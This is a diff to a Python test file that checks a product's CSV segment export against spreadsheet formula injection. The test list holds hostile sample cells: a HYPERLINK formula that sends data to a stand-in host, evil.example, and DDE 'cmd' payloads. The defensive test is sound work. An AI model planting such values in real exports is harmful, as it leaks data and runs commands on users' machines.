@@ -9,6 +9,7 @@ contract (``SiteFolder``), symbolic links placed inside the root, and the same a
 
 from __future__ import annotations
 
+import csv
 import os
 import re
 
@@ -217,3 +218,40 @@ def test_the_cli_tells_the_operator_where_the_root_is(runner, tmp_path):
     assert root.endswith("/files/1") and os.path.isdir(root), "the site's folder is created for the operator"
     assert f"folder: put the files in {root}/exports/daily" in out
 
+
+# --- CSV written by the product -----------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1"]
+
+
+def test_the_segment_push_never_writes_a_formula(two_sites):
+    """Emails, customer ids and segment keys come from shops, connectors and visitors: any of them may
+    start with a formula. The file is read back as a spreadsheet would see it."""
+    from personalize.db import db
+    from personalize.profiles.identity import profiles_for_visitors
+    from personalize.sync.connections import save_connection, site_files_root
+    from personalize.sync.push import push_changes
+
+    a = two_sites["A"]
+    save_connection(a.id, "files", {"folder": "exports"}, push_target="file")
+    ids = profiles_for_visitors(a.id, [f"v{i}" for i in range(len(FORMULAS) + 1)])
+    db.session.commit()
+    pid = [ids[f"v{i}"] for i in range(len(FORMULAS) + 1)]
+    changes = [SegmentChange(f"seg{i}", pid[i], True, {"email": formula, "customer_id": formula}) for i, formula in enumerate(FORMULAS)]
+    changes.append(SegmentChange("=cmd", pid[-1], True, {"email": "ann@example.com", "customer_id": "-12.5"}))
+    assert push_changes(a.id, "files", "file", changes)["status"] == "succeeded"
+    path = site_files_root(a.id) / "exports" / "segment_members.csv"
+    with path.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    cells = [value for row in rows for value in row.values()]
+    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r\uff1d" and c != "-12.5"]
+    assert dangerous == [], dangerous
+    by_id = {int(row["profile_id"]): row for row in rows}
+    assert by_id[pid[0]]["email"] == "'" + FORMULAS[0] and by_id[pid[4]]["customer_id"] == "'\t=1+1"
+    assert by_id[pid[-1]]["segment"] == "'=cmd" and by_id[pid[-1]]["customer_id"] == "-12.5", "a plain number stays a number"
+    # a second push reads the file back and writes it again: nothing is quoted twice
+    push_changes(a.id, "files", "file", [SegmentChange("seg0", pid[0], False, {"email": FORMULAS[0]})])
+    with path.open(newline="", encoding="utf-8") as fh:
+        again = {int(row["profile_id"]): row for row in csv.DictReader(fh)}
+    assert pid[0] not in again and again[pid[1]]["email"] == "'" + FORMULAS[1]
